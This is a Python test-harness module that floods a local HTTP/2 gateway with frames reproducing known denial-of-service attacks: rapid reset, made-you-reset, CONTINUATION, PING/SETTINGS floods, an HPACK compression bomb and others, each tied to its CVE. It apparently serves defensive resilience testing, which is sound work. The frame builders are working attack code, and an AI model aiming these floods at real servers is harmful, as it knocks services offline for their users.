"""Floods of HTTP/2 frames, as a program of its own: `python -m harness.floods KIND PORT SECONDS CONNECTIONS`.

Every connection sends as fast as the gateway takes it; one that is thrown out comes back. At the end it prints how
many frames it sent, how often it connected and how often it was thrown out.
"""

import collections
import itertools
import json
import os
import pathlib
import select
import socket
import ssl
import subprocess
import sys
import threading
import time

import hpack

from .frames import PREFACE, frame_head

FOLDER = pathlib.Path(__file__).parent.parent
HEAD = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/constant")]
UPLOAD = [(":method", "POST"), *HEAD[1:]]
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, stream, content=b"", flags=0):
    return frame_head(len(content), kind, flags, stream) + content


def block(fields):
    # Without the table, so that every block is the same.
    return b"".join(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(name, value)]) for name, value in fields)


REQUEST, BEGUN = block(HEAD), block(UPLOAD)


def each_stream(make):
    """A fresh stream each time."""
    return b"", (make(stream) for stream in range(3, 1 << 31, 2))


def again(content, first=b""):
    return first, itertools.repeat(content)


def open_stream(stream=1, content=BEGUN):
    return frame(HEADERS, stream, content, END_HEADERS)


#: What is sent first, and then without end. An item of a flood is one or two frames.
FLOODS = {
    # CVE-2023-44487
    "rapid reset": lambda: each_stream(lambda stream: frame(HEADERS, stream, REQUEST, END_HEADERS | END_STREAM)
                                       + frame(RST_STREAM, stream, (8).to_bytes(4, "big"))),
    # CVE-2025-8671: the server is made to reset the stream, so that no count of the client's resets helps.
    "made you reset": lambda: each_stream(lambda stream: frame(HEADERS, stream, REQUEST, END_HEADERS | END_STREAM)
                                          + frame(WINDOW_UPDATE, stream, bytes(4))),
    # CVE-2024-27316
    "CONTINUATION": lambda: again(
        frame(CONTINUATION, 1, block([("x-flood", "a" * 200)] * 20)), frame(HEADERS, 1, REQUEST)),
    "empty CONTINUATION": lambda: again(frame(CONTINUATION, 1), frame(HEADERS, 1, REQUEST)),
    # CVE-2019-9512
    "PING": lambda: again(frame(PING, 0, bytes(8))),
    # CVE-2019-9515
    "SETTINGS": lambda: again(frame(SETTINGS, 0)),
    "SETTINGS of the table": lambda: again(
        frame(SETTINGS, 0, b"\0\1\0\0\0\0") + frame(SETTINGS, 0, b"\0\1\0\0\x10\0")),
    # CVE-2019-9518
    "empty DATA": lambda: again(frame(DATA, 1), open_stream()),
    "DATA of one byte": lambda: again(frame(DATA, 1, b"a"), open_stream()),
    "WINDOW_UPDATE": lambda: again(frame(WINDOW_UPDATE, 0, b"\0\0\0\1")),
    "WINDOW_UPDATE of a stream": lambda: again(frame(WINDOW_UPDATE, 1, b"\0\0\0\1"), open_stream()),
    # CVE-2019-9513
    "PRIORITY": lambda: again(frame(PRIORITY, 1, b"\0\0\0\3\x10") + frame(PRIORITY, 3, b"\0\0\0\1\x10")),
    "unknown frames": lambda: again(frame(0xEE, 0, b"unknown")),
    # CVE-2016-6581: a few bytes that stand for very much.
    "compression bomb": lambda: each_stream(
        lambda stream: frame(HEADERS, stream, REQUEST + (b"\x40\1x\x7f\xa1\x1e" + b"a" * 4000 if stream == 3 else b"")
                             + b"\xbe" * 3000, END_HEADERS | END_STREAM)),
    "requests": lambda: each_stream(lambda stream: frame(HEADERS, stream, REQUEST, END_HEADERS | END_STREAM)),
}
#: Attackers of these take no answers, so that they pile up with whoever writes them.
WITHOUT_READING = {"PING", "SETTINGS", "SETTINGS of the table", "requests"}


class Flood:
    """Runs beside the test."""

    def __init__(self, kind, port, seconds, connections=4):
        self.child = subprocess.Popen(
            [sys.executable, "-B", "-m", "harness.floods", kind, str(port), str(seconds), str(connections)], cwd=FOLDER,
            stdout=subprocess.PIPE, text=True)

    def result(self):
        output, _ = self.child.communicate(timeout=120)
        assert self.child.returncode == 0
        return json.loads(output)


def attack(kind, port, deadline, counts):
    # Each flood is another client, since the gateway keeps in mind who it was.
    source = f"127.0.66.{1 + list(FLOODS).index(kind)}"
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    while time.monotonic() < deadline:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2, source_address=(source, 0)) as plain:
                with context.wrap_socket(plain) as connection:
                    counts["connections"] += 1
                    flood(connection, kind, deadline, counts)
        except OSError:
            counts["thrown out"] += 1
            # Who is thrown out at once would measure the handshakes alone.
            time.sleep(0.05)


def flood(connection, kind, deadline, counts):
    first, items = FLOODS[kind]()
    connection.setblocking(False)
    waiting = PREFACE + frame(SETTINGS, 0) + first
    while time.monotonic() < deadline:
        if not waiting:
            waiting = b"".join(itertools.islice(items, 100))
            counts["sent"] += 100
        try:
            waiting = waiting[connection.send(waiting):]
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            readers = [] if kind in WITHOUT_READING else [connection]
            select.select(readers, [connection], [], 0.1)
        if kind not in WITHOUT_READING:
            drain(connection)


def drain(connection):
    try:
        while part := connection.recv(1 << 16):
            pass
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return
    if not part:
        raise ConnectionResetError


def run(kind, port, seconds, connections):
    # An attacker brings a machine of their own. Here it shares the cores with whom it attacks, and gets what these leave;
    # where time is not measured, a little more, for a busy machine may leave nothing.
    if os.environ.get("RAMPART_TIMED"):
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    else:
        os.nice(10)
    counts, deadline = collections.Counter(), time.monotonic() + seconds
    threads = [threading.Thread(target=attack, args=(kind, port, deadline, counts)) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {name: counts[name] for name in ("sent", "connections", "thrown out")}


if __name__ == "__main__":
    print(json.dumps(run(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]))))
